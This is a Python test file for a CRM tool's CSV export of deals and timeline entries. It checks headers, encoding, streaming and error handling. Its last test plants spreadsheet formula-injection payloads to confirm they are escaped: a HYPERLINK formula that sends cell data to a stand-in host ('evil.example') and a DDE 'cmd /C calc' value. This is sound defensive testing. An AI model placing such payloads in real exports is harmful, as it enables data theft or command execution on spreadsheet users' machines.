"""`dealroom export deals|timeline PATH.csv` on SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import insert

from bot.cli import main
from bot.ops.export import PROGRESS_FROM, export_csv
from models.infra.db import create_engine, session_factory
from models.infra.i18n import t
from models.infra.tables import Deal, TimelineEntry, User
from models.infra.words import DealRef, Moment, Person
from models.pipeline import load_pipeline
from models.values import format_when

NOW = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
pytestmark = pytest.mark.db


async def _seed(db_url: str, deals: int = 2) -> None:
    engine = create_engine(db_url)
    async with session_factory(engine).begin() as session:
        session.add(User(id="U0ANA", name="安娜", created_at=NOW))
        await session.flush()
        await session.execute(insert(Deal), [
            dict(title="华为 Cloud 扩容" if n == 0 else f"Deal {n}", customer="华为" if n == 0 else None,
                 amount=Decimal("150000.50") if n == 0 else None, stage_key="won" if n == 1 else "proposal",
                 owner_id="U0ANA", created_by="U0ANA", created_at=NOW, updated_at=NOW,
                 closed_at=NOW if n == 1 else None, custom_fields={"region": "亚太"} if n == 0 else {}, version=1)
            for n in range(deals)])
        await session.execute(insert(TimelineEntry), [
            dict(deal_id=1, at=NOW, actor_id="U0ANA", kind="note", text='called, "quoted", 明天回电'),
            dict(deal_id=1, at=NOW, actor_id=None, kind="stage", text="moved Lead → Proposal")])
    await engine.dispose()


def _read(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so Excel reads Chinese"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


async def _cli(args: list[str], db_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
               capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    monkeypatch.chdir(tmp_path)  # no .env of the developer's
    monkeypatch.setenv("DATABASE_URL", db_url)
    code = await asyncio.to_thread(main, args)
    return code, capsys.readouterr().err


async def test_deals_and_timeline_export(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    await _seed(db_url)
    target = tmp_path / "out" / "deals.csv"
    target.parent.mkdir()
    target.write_text("old", encoding="utf-8")
    code, err = await _cli(["export", "deals", str(target)], db_url, monkeypatch, tmp_path, capsys)
    assert code == 0, err
    assert err.strip() == f"Wrote 2 deals to {target}"
    rows = _read(target)
    header, first, second = rows
    assert header[:8] == ["deal", "title", "customer", "amount", "stage", "stage_name", "probability", "status"]
    record = dict(zip(header, first, strict=True))
    assert record["deal"] == "D-1" and record["title"] == "华为 Cloud 扩容" and record["customer"] == "华为"
    assert record["amount"] == "150000.50" and record["stage_name"] == "Proposal" and record["probability"] == "50"
    assert record["owner_name"] == "安娜" and record["custom_fields"] == '{"region": "亚太"}'
    assert record["created_at"] == "2026-11-23 09:30:00+00:00" and record["status"] == "open"
    assert dict(zip(header, second, strict=True))["status"] == "won"
    assert sorted(p.name for p in target.parent.iterdir()) == ["deals.csv"], "no temporary file is left"

    timeline = tmp_path / "timeline.csv"
    code, err = await _cli(["export", "timeline", str(timeline)], db_url, monkeypatch, tmp_path, capsys)
    assert code == 0 and "Wrote 2 timeline entries" in err
    assert _read(timeline)[1] == ["1", "D-1", "2026-11-23 09:30:00+00:00", "U0ANA", "note",
                                  'called, "quoted", 明天回电']


async def test_timeline_text_is_the_entrys_sentence_with_peoples_names(db_url: str, tmp_path: Path) -> None:
    await _seed(db_url)
    handed = t("handed {deal} from {previous} to {owner}: {why}", deal=DealRef(1), previous=Person("U0ANA"),
               owner=Person("U0GONE"), why="<@U0ANA> typed this")
    due = t("due {when}", when=Moment(NOW, "Asia/Shanghai"))
    engine = create_engine(db_url)
    async with session_factory(engine).begin() as session:
        await session.execute(insert(TimelineEntry), [
            dict(deal_id=1, at=NOW, actor_id="U0ANA", kind="owner", text="stored plain text",
                 body={"locale": "en", "text": handed.to_data()}),
            dict(deal_id=1, at=NOW, actor_id="U0ANA", kind="followup", text="stored plain text",
                 body={"locale": "zh-CN", "text": due.to_data()})])
    try:
        assert await export_csv(engine, "timeline", tmp_path / "t.csv", load_pipeline("standard")) == 4
    finally:
        await engine.dispose()
    texts = [row[5] for row in _read(tmp_path / "t.csv")[1:]]
    assert texts[:2] == ['called, "quoted", 明天回电', "moved Lead → Proposal"], "entries from before: their text"
    assert texts[2] == "handed D-1 from 安娜 to @U0GONE: <@U0ANA> typed this"
    assert texts[3] == f"应于 {format_when(NOW, ZoneInfo('Asia/Shanghai'), 'zh-CN')}", "as it was written"


@pytest.mark.parametrize("where", ["missing-folder", "a-folder", "under-a-file"])
async def test_a_path_that_cannot_be_written_is_one_line(db_url: str, tmp_path: Path, where: str,
                                                         monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    await _seed(db_url)
    # "under-a-file": a path no one can write, root included (a permission test would pass as root)
    (tmp_path / "plain-file").write_text("x")
    target = {"missing-folder": tmp_path / "nope" / "d.csv", "a-folder": tmp_path,
              "under-a-file": tmp_path / "plain-file" / "d.csv"}[where]
    code, err = await _cli(["export", "deals", str(target)], db_url, monkeypatch, tmp_path, capsys)
    assert code == 1
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"dealroom: cannot write {target}"), err


async def test_a_missing_database_and_a_bad_kind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'none.db'}"
    code, err = await _cli(["export", "deals", str(tmp_path / "d.csv")], url, monkeypatch, tmp_path, capsys)
    assert code == 1 and "there is no database at" in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "none.db").exists()
    with pytest.raises(SystemExit) as usage:
        main(["export", "people", "x.csv"])
    assert usage.value.code == 2


async def test_a_big_export_streams_with_a_progress_bar(db_url: str, tmp_path: Path) -> None:
    await _seed(db_url, deals=PROGRESS_FROM + 500)
    engine = create_engine(db_url)
    bar = io.StringIO()
    try:
        count = await export_csv(engine, "deals", tmp_path / "big.csv", load_pipeline("standard"), progress=bar)
    finally:
        await engine.dispose()
    assert count == PROGRESS_FROM + 500
    assert "/1.50k" in bar.getvalue() and "rows" in bar.getvalue(), bar.getvalue()[-200:]
    assert len(_read(tmp_path / "big.csv")) == count + 1


DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]  # OWASP: a spreadsheet runs a cell beginning with these


async def test_cells_a_spreadsheet_would_run_as_formulas_are_plain_text(
        db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    payload = 'HYPERLINK("http://evil.example/?"&A1,"x");=1+1'
    engine = create_engine(db_url)
    async with session_factory(engine).begin() as session:
        session.add_all([User(id=f"U0EVIL{n}", name=f"{start}{payload}", created_at=NOW)
                         for n, start in enumerate(DANGEROUS)])
        await session.flush()
        await session.execute(insert(Deal), [
            dict(title=f"{start}{payload}", customer=f"{start}cmd|' /C calc'!A0", amount=Decimal("150000.50"),
                 stage_key="proposal", owner_id=f"U0EVIL{n}", created_by=f"U0EVIL{n}", created_at=NOW,
                 updated_at=NOW, custom_fields={}, version=1, lost_reason=f"{start}SUM(1,2)")
            for n, start in enumerate(DANGEROUS)])
        await session.execute(insert(TimelineEntry), [
            dict(deal_id=n + 1, at=NOW, actor_id=f"U0EVIL{n}", kind="note", text=f"{start}{payload}")
            for n, start in enumerate(DANGEROUS)])
        session.add(Deal(title="'already quoted, -5% off", stage_key="proposal", owner_id="U0EVIL0",
                         created_by="U0EVIL0", created_at=NOW, updated_at=NOW, custom_fields={}, version=1))
    await engine.dispose()

    deals, timeline = tmp_path / "deals.csv", tmp_path / "timeline.csv"
    for kind, target in (("deals", deals), ("timeline", timeline)):
        code, err = await _cli(["export", kind, str(target)], db_url, monkeypatch, tmp_path, capsys)
        assert code == 0, err
    header, *rows = _read(deals)
    records = [dict(zip(header, row, strict=True)) for row in rows]
    for record, start in zip(records, DANGEROUS, strict=False):
        assert record["title"] == f"'{start}{payload}", "the whole title, read back as one cell, as text"
        assert record["owner_name"] == f"'{start}{payload}"
        assert record["customer"] == f"'{start}cmd|' /C calc'!A0"
        assert record["lost_reason"] == f"'{start}SUM(1,2)"
        assert record["amount"] == "150000.50", "a number stays a number"
    assert records[-1]["title"] == "'already quoted, -5% off", "only a dangerous first character is changed"
    assert all(not cell.startswith(tuple(DANGEROUS)) for row in rows for cell in row)
    _, *entries = _read(timeline)
    assert [entry[5] for entry in entries] == [f"'{start}{payload}" for start in DANGEROUS]
    raw = deals.read_bytes().decode("utf-8-sig")
    assert f'"\'={payload.replace(chr(34), chr(34) * 2)}"' in raw, "every cell quoted, a ; inside stays inside"
